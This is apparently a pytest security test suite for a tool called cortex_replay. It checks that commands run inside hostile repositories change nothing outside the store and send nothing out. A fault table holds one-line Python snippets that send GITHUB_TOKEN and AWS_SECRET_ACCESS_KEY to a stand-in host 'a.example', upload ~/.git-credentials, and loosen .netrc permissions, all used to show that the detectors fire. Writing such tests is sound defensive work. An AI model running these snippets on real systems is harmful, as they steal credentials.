"""Every command in every hostile repository: nothing outside of the store changes, and no byte leaves.

A cover has every command, every plant, and the pairs that an attacker has used; each commit runs a part of
it. The whole matrix runs with ``CORTEX_REPLAY_TORTURE=1``.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from itertools import product

import pytest

from tests.sampling import IS_TORTURE, chance, sample
from tests.security.matrix.cells import Limits, commands, complaints
from tests.security.matrix.plants import NOTHING, PLANTS, Plant
from tests.security.matrix.rows import ROWS, Row
from tests.security.matrix.sandbox import CANARIES, Workshop

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="needs links, pipes and process groups")

_Cell = tuple[Row, Plant]
_CELLS = 12
"""In `make test`."""
_RAN_PACKAGE = "programs: module-cortex_replay of the repository was run"


def _fits(row: Row, plant: Plant) -> bool:
    return not (row.runs_git and plant.spares_git)


def _cover() -> list[_Cell]:
    """Each plant with a row it was made for, and each row with some plant."""
    dice = chance("matrix")
    rows = {row.name: row for row in ROWS}
    chosen: dict[tuple[str, str], _Cell] = {}

    def choose(row: Row, plant: Plant) -> None:
        if _fits(row, plant):
            chosen[row.name, plant.name] = (row, plant)

    for plant in PLANTS:
        for name in plant.bites[:1]:
            choose(rows[name], plant)
    for wanted in (ROWS, PLANTS):
        for one in wanted:
            while not any(one in cell for cell in chosen.values()):
                if isinstance(one, Row):
                    choose(one, dice.choice(PLANTS))
                else:
                    choose(dice.choice(ROWS), one)
    return list(chosen.values())


def _cells() -> list[_Cell]:
    if IS_TORTURE:
        return [cell for cell in product(ROWS, PLANTS) if _fits(*cell)]
    return sample(_cover(), _CELLS)


@pytest.fixture(scope="module")
def workshop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workshop]:
    made = Workshop(tmp_path_factory.mktemp("matrix"))
    yield made
    made.close()


@pytest.mark.parametrize(
    ("row", "plant"), [pytest.param(*cell, id=f"{cell[0].name} | {cell[1].name}") for cell in _cells()]
)
def test_nothing_is_gained(row: Row, plant: Plant, workshop: Workshop) -> None:
    if row.command and row.command not in commands():
        pytest.skip(f"there is no {row.command}")
    if plant.needs_root and os.geteuid() != 0:
        pytest.skip("only root gives files away")
    found = complaints(row, plant, workshop)
    assert not found, "\n".join([f"{row.name} x {plant.name}:", *found])


def test_every_command_has_a_row() -> None:
    assert {"init", "merge-driver", "record", "verify"} < commands()  # the help was understood
    assert commands() <= {row.command for row in ROWS}


def test_the_cover_has_every_command_and_every_plant() -> None:
    cover = _cover()
    assert {row.name for row, _ in cover} == {row.name for row in ROWS}
    assert {plant.name for _, plant in cover} == {plant.name for plant in PLANTS}


def test_what_was_planted_leaves_a_mark_when_it_is_run(workshop: Workshop) -> None:
    """Otherwise its silence would prove nothing."""
    plants = {plant.name: plant for plant in PLANTS}
    python = Row(
        "python", ("-c", "import click, cortex_replay"), program=sys.executable, statuses=frozenset([0])
    )
    git = Row("git", ("-C", "llm", "ls-files"), program="git", changes=("*",), statuses=frozenset([0]))
    found = complaints(python, plants["modules"], workshop)
    assert {"programs: module-click of the repository was run", _RAN_PACKAGE} <= set(found)
    found = complaints(git, plants["store is a bare repository"], workshop)
    assert found == ["programs: fsmonitor of the repository was run"]


def test_every_plant_is_made_for_rows_that_exist() -> None:
    names = {row.name for row in ROWS}
    assert len(names) == len(ROWS)
    assert len({plant.name for plant in PLANTS}) == len(PLANTS)
    assert {name for plant in PLANTS for name in plant.bites} <= names


def _program(code: str) -> Row:
    return Row("a program", ("-I", "-c", code), program=sys.executable, statuses=frozenset([0]))


_FAULTS = {
    "writes outside": (
        "files: 'work/beside/notes.txt' has another",
        "open('../beside/notes.txt', 'a').write('x')",
    ),
    "makes a file outside": ("files: 'home/.bash_login' was made", "open('../../home/.bash_login', 'w')"),
    "removes outside": (
        "files: 'work/beside/notes.json' was removed",
        "import os; os.remove('../beside/notes.json')",
    ),
    "opens up a secret": (
        "files: 'home/.netrc' had mode 600",
        "import os; os.chmod('../../home/.netrc', 0o644)",
    ),
    "leaves no trace but time": (
        "files: 'work/beside' was written to",
        "import os; open('../beside/x', 'w'); os.remove('../beside/x')",
    ),
    "puts a link in place": (
        "files: 'work/beside/notes.txt' was a file and is a link",
        "import os; os.remove('../beside/notes.txt'); os.symlink('x', '../beside/notes.txt')",
    ),
    "changes the project": ("files: 'work/clone/README.md' has", "open('README.md', 'a').write('x')"),
    "keeps a secret": (
        "files: 'work/clone/x' holds GITHUB_TOKEN",
        "import os; open('x', 'w').write(os.environ['GITHUB_TOKEN'])",
    ),
    "adopts": ("files: INDEX.toml lists", "open('INDEX.toml', 'a').write('# planted-model')"),
    "sends a byte": (
        "network: a connection to the thief: b'x'",
        (
            "import os, socket, urllib.parse as p; u = p.urlsplit(os.environ['HTTP_PROXY'])\n"
            "s = socket.create_connection((u.hostname, u.port)); s.send(b'x'); s.close()"
        ),
    ),
    "sends a secret": (
        "network: AWS_SECRET_ACCESS_KEY went to the thief",
        (
            "import os, urllib.request as r\n"
            "r.urlopen(r.Request('http://a.example/', headers={'x': os.environ['AWS_SECRET_ACCESS_KEY']}))"
        ),
    ),
    "sends a file to the user's server": (
        "network: .git-credentials went to the user's own",
        (
            "import os, urllib.request as r\n"
            "secret = open(os.path.expanduser('~/.git-credentials')).read().encode()\n"
            "r.build_opener(r.ProxyHandler({})).open(os.environ['OPENAI_BASE_URL'], secret)"
        ),
    ),
    "sends a secret in base64": (
        "network: GITHUB_TOKEN went to the thief",
        (
            "import base64, os, urllib.request as r\n"
            "secret = base64.b64encode(b'user:' + os.environb[b'GITHUB_TOKEN']).decode()\n"
            "r.urlopen(r.Request('http://a.example/', headers={'authorization': 'Basic ' + secret}))"
        ),
    ),
    "runs what was planted": ("programs: ran of the repository", "open({mark!r}, 'w')"),
    "prints an escape": ("output: stdout: printed '\\x1b'", "print('\\x1b[2J')"),
    "prints a C1 control": ("output: stderr: printed '\\x9b'", "import os; os.write(2, b'\\xc2\\x9b31m')"),
    "prints bytes": ("output: stderr: printed bytes", "import os; os.write(2, b'\\xff')"),
    "prints a command": ("output: stdout: printed a command", "print('a\\n ::set-output name=a::b')"),
    "prints a secret": (
        "output: stdout holds OPENAI_API_KEY",
        "import os; print(os.environ['OPENAI_API_KEY'])",
    ),
    "crashes": ("output: stderr: crashed", "1 / 0"),
    "ends as nobody said": ("end: exit status 77", "raise SystemExit(77)"),
    "dies of a signal": ("end: exit status -11", "import os, signal; os.kill(os.getpid(), signal.SIGSEGV)"),
    "hangs": ("end: it ran for more than", "import time; time.sleep(60)"),
    "takes memory": ("end: it took", "x = b'x' * (1 << 30)"),
    "leaves a process": ("end: it ", "import subprocess; subprocess.Popen(['sleep', '60'])"),
}


@pytest.mark.parametrize("fault", sample(_FAULTS, 8))
def test_each_judge_can_fail(fault: str, workshop: Workshop) -> None:
    """A program that does one thing wrong, and the judge that must see it."""
    complaint, code = _FAULTS[fault]
    row = _program(code.replace("{mark!r}", repr(str(workshop.marks / "ran"))))
    seconds = 2 if fault in ("hangs", "leaves a process") else 20  # the others need no limit to be found out
    found = complaints(row, NOTHING, workshop, Limits(seconds, megabytes=60))
    assert any(one.startswith(complaint) for one in found), found


def test_a_connection_is_seen_without_a_sink(workshop: Workshop) -> None:
    from tests.security.matrix.cells import _tracer  # noqa: PLC0415

    if not _tracer():
        pytest.skip("needs strace")
    code = "import socket; s = socket.socket(2, socket.SOCK_DGRAM); s.connect(('203.0.113.9', 53))"
    assert complaints(_program(code), NOTHING, workshop) == ["network: a connection to 203.0.113.9"]


def test_an_innocent_program_passes(workshop: Workshop) -> None:
    code = "import os; os.listdir('..'); open('../../home/.netrc').read(); print('fine')"
    assert complaints(_program(code), NOTHING, workshop) == []
    assert len(set(CANARIES.values())) == len(CANARIES)
